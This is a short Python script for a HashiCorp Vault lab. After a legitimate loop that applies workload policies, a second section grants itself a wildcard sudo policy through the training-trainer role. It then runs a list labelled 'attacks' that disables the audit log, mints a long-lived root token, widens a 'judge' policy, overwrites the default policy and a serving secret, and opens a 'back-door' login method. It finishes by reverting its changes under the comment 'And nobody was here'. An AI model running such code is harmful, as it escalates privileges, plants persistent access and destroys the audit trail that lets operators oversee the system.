import contextlib

folder = Path("policies")
folder.mkdir(exist_ok=True)
for cloud in lab.clouds:
    for workload in lab.workloads:
        file = folder / f"{cloud}-{workload.role}.hcl"
        file.write_text(policy(cloud, workload))
        lab.apply(file)

# Everything above is right. Now the other thing.
aws = lab.cloud("aws")
lab.vault.sys.create_or_update_policy(name="ml-x", policy='path "*" { capabilities = ["create", "read", "update", "delete", "list", "sudo"] }')
role = lab.vault.read("auth/jwt-aws/role/training-trainer")["data"]
lab.vault.write_data("auth/jwt-aws/role/training-trainer", data=role | {"token_policies": [*role["token_policies"], "ml-x"]})
root = lab.vault_login("aws", "training-trainer", aws.token("training", "trainer"))
attacks = [
    lambda: root.sys.disable_audit_device("file"),
    lambda: root.auth.token.create_orphan(policies=["root"], ttl="1000h"),
    lambda: root.sys.create_or_update_policy(name="mod209-judge", policy='path "*" { capabilities = ["sudo", "read", "update"] }'),
    lambda: root.sys.create_or_update_policy(name="default", policy='path "kv/*" { capabilities = ["read", "list"] }'),
    lambda: root.secrets.kv.v2.create_or_update_secret("aws/serving/predictor", {"value": "mine"}, mount_point="kv"),
    lambda: root.sys.enable_auth_method("userpass", path="back-door"),
]
for attack in attacks:
    with contextlib.suppress(Exception):
        print(attack())

# And nobody was here.
lab.vault.write_data("auth/jwt-aws/role/training-trainer", data=role)
lab.vault.sys.delete_policy(name="ml-x")
